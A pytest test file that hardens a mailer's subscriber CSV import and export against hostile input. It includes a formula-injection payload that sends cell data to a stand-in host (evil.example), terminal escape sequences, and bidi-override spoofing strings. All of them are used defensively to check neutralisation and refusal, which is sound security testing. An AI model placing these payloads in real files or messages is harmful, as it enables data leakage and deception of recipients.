"""Hostile and foreign CSV files: formulas typed into the subscribe form, old-Mac line ends,
European separators, control characters and huge values in attributes, internationalised mailboxes.

Each test names the hostile input, checks the refusal or the neutral result, and checks that
nothing else changed.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import func, select
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from mailer.cli import app
from mailer.errors import MailerError
from mailer.settings import Settings
from subscribers.csv_lines import physical_lines
from subscribers.errors import InvalidAddress, SubscribersError
from subscribers.formulas import neutralise, unformula
from subscribers.importing import import_csv
from subscribers.lifecycle import add_subscriber, get_subscriber, subscribe_pending
from subscribers.models import MailingList, Subscriber

runner = CliRunner()
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"x")'


def cli(*args: str) -> tuple[int, str]:
    """Exit code and what the user reads (`mailer`'s main prints a domain error's message)."""
    result = runner.invoke(app, list(args))
    shown = result.stdout + (result.stderr or "")
    if isinstance(result.exception, MailerError | SubscribersError):
        shown += str(result.exception)
    elif result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.exit_code, shown


def people(session: Session) -> list[tuple[str, str, str, dict[str, str]]]:
    session.expire_all()
    return [
        (s.email, s.name, s.company, dict(s.attributes or {}))
        for s in session.scalars(select(Subscriber).order_by(Subscriber.id))
    ]


# --- 1. export: spreadsheet formulas ----------------------------------------------------------


def test_a_formula_typed_into_the_subscribe_form_is_exported_as_text_unless_raw(
    session: Session, weekly: MailingList, settings: Settings, tmp_path: Path
) -> None:
    """Hostile input: `=HYPERLINK("http://evil.example/?d="&A2,"x")` as a name from the anonymous
    form, `+52 55…` and `@SUM(…)` as companies, `-1+1` and `=1+1` as attributes."""
    subscribe_pending(session, weekly, "mallory@example.com", settings.secret(), name=HYPERLINK)
    add_subscriber(
        session, weekly, "ana@example.com", settings.secret(), name="Ana", company="+52 55 1234"
    )
    add_subscriber(session, weekly, "bo@example.com", settings.secret(), company="@SUM(A1:A9)")
    sub = get_subscriber(session, "bo@example.com")
    assert sub is not None
    sub.attributes = {"score": "-1+1", "note": "=1+1", "plain": "fine"}
    session.commit()
    stored = people(session)

    code, safe = cli("subscribers", "export", "--list", "weekly")
    assert code == 0
    rows = {r[0]: r for r in csv.reader(io.StringIO(safe))}
    header = rows["email"]
    mallory = dict(zip(header, rows["mallory@example.com"], strict=True))
    assert mallory["name"] == "'" + HYPERLINK
    assert dict(zip(header, rows["ana@example.com"], strict=True))["company"] == "'+52 55 1234"
    bo = dict(zip(header, rows["bo@example.com"], strict=True))
    assert bo["company"] == "'@SUM(A1:A9)"
    assert (bo["attr.score"], bo["attr.note"], bo["attr.plain"]) == ("'-1+1", "'=1+1", "fine")
    # OWASP's rule, checked independently of our helper: no cell starts a formula.
    for row in csv.reader(io.StringIO(safe)):
        for cell in row:
            assert not re.match(r"[=+\-@\t\r]", cell), cell

    code, raw = cli("subscribers", "export", "--list", "weekly", "--raw")
    assert code == 0
    raw_rows = {r[0]: r for r in csv.reader(io.StringIO(raw))}
    assert dict(zip(header, raw_rows["mallory@example.com"], strict=True))["name"] == HYPERLINK

    # The protected file imports back to exactly what was stored, and exports the same bytes.
    dump = tmp_path / "dump.csv"
    dump.write_text(safe, encoding="utf-8", newline="")
    code, out = cli("subscribers", "import", str(dump), "--list", "weekly")
    assert code == 0 and "0 updated" in out, out
    assert people(session) == stored
    assert cli("subscribers", "export", "--list", "weekly")[1] == safe


@given(st.text(alphabet="'=+-@\t\rab ,;\"", max_size=12))
def test_neutralise_and_unformula_are_inverse_and_never_leave_a_formula(cell: str) -> None:
    safe = neutralise(cell)
    assert unformula(safe) == cell
    assert not re.match(r"[=+\-@\t\r]", safe)


# --- 2. import: line ends and separators ------------------------------------------------------


@pytest.mark.parametrize("end", ["\r", "\n", "\r\n"], ids=["CR (old Mac)", "LF", "CRLF"])
def test_cr_lf_and_crlf_files_import_alike(
    session: Session, weekly: MailingList, settings: Settings, tmp_path: Path, end: str
) -> None:
    """Hostile (well, old) input: a file whose lines end in CR only, which Python's csv refused
    with its "universal-newline mode" message; a quoted cell spans two lines."""
    rows = [
        "email,name,company",
        "ana@example.com,Ana Ruiz,Acme",
        'bo@example.com,"Bo' + end + 'Li",Beta',  # a line break inside quotes: one space
        "not-an-address,Nobody,None",
        "cy@example.com,Cy,Gamma",
    ]
    path = tmp_path / "mac.csv"
    path.write_bytes(end.join(rows).encode() + end.encode())
    report = import_csv(session, weekly, path, settings.secret())
    session.commit()
    assert (report.records, report.imported, report.skipped) == (4, 3, 1)
    problem = report.problems[0]
    assert (problem.row, problem.line) == (4, 5)  # the quoted cell took two lines
    assert [p[:2] for p in people(session)] == [
        ("ana@example.com", "Ana Ruiz"),
        ("bo@example.com", "Bo Li"),
        ("cy@example.com", "Cy"),
    ]


@given(
    st.lists(
        st.tuples(st.text(alphabet='ab,"é', max_size=5), st.sampled_from(["\r", "\n", "\r\n"])),
        max_size=20,
    ),
    st.integers(min_value=1, max_value=9),
)
def test_lines_are_split_at_every_line_end_whatever_the_chunk_boundaries(
    parts: list[tuple[str, str]], chunk: int
) -> None:
    data = "".join(text + end for text, end in parts).encode()
    lines = list(physical_lines(io.BytesIO(data), "f.csv", chunk=chunk))
    assert b"".join(lines) == data
    assert lines == re.findall(rb"[^\r\n]*(?:\r\n|\r|\n)|[^\r\n]+$", data)


@pytest.mark.parametrize(
    ("separator", "name"),
    [(";", "semicolon (;)"), ("\t", "tab (\\t)"), ("|", "vertical bar (|)")],
)
def test_a_semicolon_or_tab_separated_file_is_read_and_the_report_says_so(
    settings: Settings,
    weekly: MailingList,
    session: Session,
    tmp_path: Path,
    separator: str,
    name: str,
) -> None:
    """Hostile (European Excel) input: `;` between fields, decimal commas inside values, a quoted
    cell holding the separator."""
    text = separator.join(["email", "name", "company", "attr.revenue"]) + "\r\n"
    text += separator.join(["ana@example.com", "Ana Ruiz", "Acme, S.A.", "1,5"]) + "\r\n"
    text += separator.join(["bo@example.com", f'"Bo{separator}Li"', "Beta", "2,25"]) + "\r\n"
    path = tmp_path / "europe.csv"
    path.write_text(text, encoding="utf-8", newline="")
    code, out = cli("subscribers", "import", str(path), "--list", "weekly")
    assert code == 0, out
    assert "2 imported" in out and "0 skipped" in out
    assert f"separator: {name}, detected" in out
    assert people(session) == [
        ("ana@example.com", "Ana Ruiz", "Acme, S.A.", {"revenue": "1,5"}),
        # (a TAB inside a name folds to a space, like a line break: names are one line)
        ("bo@example.com", f"Bo{separator}Li".replace("\t", " "), "Beta", {"revenue": "2,25"}),
    ]


def test_a_forced_wrong_separator_names_itself_in_the_error(
    settings: Settings, weekly: MailingList, session: Session, tmp_path: Path
) -> None:
    path = tmp_path / "europe.csv"
    path.write_text("email;name\nana@example.com;Ana\n", encoding="utf-8")
    code, out = cli("subscribers", "import", str(path), "--list", "weekly", "--separator", ",")
    assert code != 0
    assert "no column named 'email' (found: email;name); rename" in out
    assert "read as comma (,)-separated" in out
    assert people(session) == []


# --- attr.* values: the same cleaning as names; a bad value costs only its cell ---------------


def test_attribute_values_with_escape_nul_or_130000_characters_are_refused_by_cell(
    session: Session, weekly: MailingList, settings: Settings, tmp_path: Path
) -> None:
    """Hostile input: `attr.note` cells holding ESC (a terminal escape sequence), NUL, and a
    130,000-character value. None is stored; each is named by row and column, and the rest of
    its row (the address, the name) is imported."""
    path = tmp_path / "attrs.csv"
    path.write_text(
        "email,name,attr.note\n"
        "esc@example.com,Esc,\x1b]0;pwned\x07\x1b[2J\n"
        "nul@example.com,Nul,a\x00b\n"
        f"big@example.com,Big,{'x' * 130_000}\n"
        "ok@example.com,Ok,  one\tline  \n",
        encoding="utf-8",
    )
    report = import_csv(session, weekly, path, settings.secret())
    session.commit()
    assert report.problems == []
    kept = "; this value was not stored, the rest of the row was"
    assert [(n.row, n.email, n.reason) for n in report.value_notes] == [
        (
            2,
            "esc@example.com",
            f"column 3 ('attr.note'): attr.note contains a control character{kept}",
        ),
        (
            3,
            "nul@example.com",
            f"column 3 ('attr.note'): attr.note contains a control character{kept}",
        ),
        (
            4,
            "big@example.com",
            f"column 3 ('attr.note'): attr.note is longer than 2000 characters (130000){kept}",
        ),
    ]
    assert people(session) == [
        ("esc@example.com", "Esc", "", {}),
        ("nul@example.com", "Nul", "", {}),
        ("big@example.com", "Big", "", {}),
        ("ok@example.com", "Ok", "", {"note": "one line"}),
    ]


def test_too_many_or_unprintable_attribute_columns_refuse_the_file(
    session: Session, weekly: MailingList, settings: Settings, tmp_path: Path
) -> None:
    """Hostile input: 51 attribute columns; a column named with an ESC."""
    wide = tmp_path / "wide.csv"
    wide.write_text(
        "email," + ",".join(f"attr.k{i}" for i in range(51)) + "\na@example.com\n",
        encoding="utf-8",
    )
    code, out = cli("subscribers", "import", str(wide), "--list", "weekly")
    assert code != 0 and "51 attribute columns; at most 50" in out
    esc = tmp_path / "esc.csv"
    esc.write_text("email,attr.\x1b[31mred\na@example.com,x\n", encoding="utf-8")
    code, out = cli("subscribers", "import", str(esc), "--list", "weekly")
    assert code != 0 and "column 2: an attribute name must be one line" in out
    assert people(session) == []


def test_show_prints_a_stored_escape_sequence_visibly(
    session: Session, weekly: MailingList, settings: Settings
) -> None:
    """Hostile input: an attribute stored with ESC before imports refused it."""
    add_subscriber(session, weekly, "old@example.com", settings.secret(), name="Old")
    sub = get_subscriber(session, "old@example.com")
    assert sub is not None
    sub.attributes = {"note": "\x1b[2Jgone"}
    session.commit()
    code, out = cli("subscribers", "show", "old@example.com")
    assert code == 0
    assert "\x1b" not in out and "attr.note: \\x1b[2Jgone" in out


# --- 3. internationalised mailboxes: refused at every door, with the reason -------------------

UTF8_MAILBOX = "jürgen.müller@example.de"


def test_an_internationalised_mailbox_is_a_row_error_on_import_and_an_idn_domain_is_fine(
    session: Session, weekly: MailingList, settings: Settings, tmp_path: Path
) -> None:
    """Hostile input: `jürgen.müller@example.de` (RFC 6531 local part) in a CSV file."""
    path = tmp_path / "intl.csv"
    path.write_text(f"email,name\n{UTF8_MAILBOX},Jürgen\nana@bücher.de,Ana\n", encoding="utf-8")
    report = import_csv(session, weekly, path, settings.secret())
    session.commit()
    assert report.imported == 1
    [problem] = report.problems
    assert problem.row == 2 and "non-ASCII characters" in problem.reason
    assert "SMTPUTF8" in problem.reason
    assert [p[0] for p in people(session)] == ["ana@bücher.de"]


def test_an_internationalised_mailbox_is_refused_by_the_cli_and_the_subscribe_functions(
    session: Session, weekly: MailingList, settings: Settings
) -> None:
    code, out = cli("subscribers", "add", UTF8_MAILBOX, "--list", "weekly")
    assert code != 0 and "internationalised mailboxes" in out
    with pytest.raises(InvalidAddress, match="non-ASCII"):
        subscribe_pending(session, weekly, UTF8_MAILBOX, settings.secret(), name="J")
    session.rollback()
    assert session.scalar(select(func.count()).select_from(Subscriber)) == 0


def test_bidi_overrides_and_zero_width_characters_leave_names_at_import_and_subscribe(
    session: Session, weekly: MailingList, settings: Settings, tmp_path: Path
) -> None:
    """Hostile input: `Ana\u202emoc.live@` (reads as `Ana@evil.com` in a To header or the
    partner's digest) and a zero-width space that makes one company look like another."""
    path = tmp_path / "bidi.csv"
    path.write_text(
        "email,name,company,tags\n"
        "q1@example.com,Ana\u202emoc.live@,Acme\u200b Mining,cli\u200bent\n",
        encoding="utf-8",
    )
    report = import_csv(session, weekly, path, settings.secret())
    session.commit()
    assert report.imported == 1
    assert people(session)[0][1:3] == ("Anamoc.live@", "Acme Mining")
    assert get_subscriber(session, "q1@example.com").tags == ["client"]  # type: ignore[union-attr]
    subscribe_pending(session, weekly, "q2@example.com", settings.secret(), name="\u2067Bo\u2069b")
    add_subscriber(session, weekly, "q3@example.com", settings.secret(), name="Eve\ufeff\u200e")
    session.commit()
    assert [p[1] for p in people(session)] == ["Anamoc.live@", "Bob", "Eve"]
